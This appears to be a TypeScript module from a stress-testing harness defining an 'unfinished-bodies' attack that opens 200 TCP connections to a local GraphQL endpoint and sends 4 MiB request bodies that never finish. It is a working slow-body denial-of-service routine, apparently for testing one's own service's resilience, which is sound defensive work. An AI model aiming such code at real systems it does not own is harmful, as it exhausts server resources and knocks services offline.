import type { Attack } from '../attack.ts';
import { openTcp } from '../clients/tcp.ts';
import { untilTheEnd } from '../keepAttacking.ts';

const connections = 200;
const bytes = 4 * 1024 * 1024 - 1_024;

/** Bodies that lack their last byte. */
export const unfinishedBodies: Attack = {
  name: 'unfinished-bodies',
  family: 'sockets',
  bounds: [9],
  summary: '200 bodies of 4 MiB whose last byte never comes',
  run: async (context) => {
    const { viewer } = context.target.tenant.keys;
    const head = `POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAuthorization: Bearer ${viewer}\r\nContent-Length: ${bytes}\r\n\r\n`;
    const body = Buffer.alloc(bytes - 1, ' ');
    for (let index = 0; index < connections && !context.signal.aborted; index++) {
      const socket = await openTcp(context);
      socket.on('data', (answer) => context.count(/^HTTP\/1.1 (\d+)/.exec(String(answer))?.[1] ?? 'answered'));
      socket.write(head);
      socket.write(body);
    }
    await untilTheEnd(context.signal);
  },
};
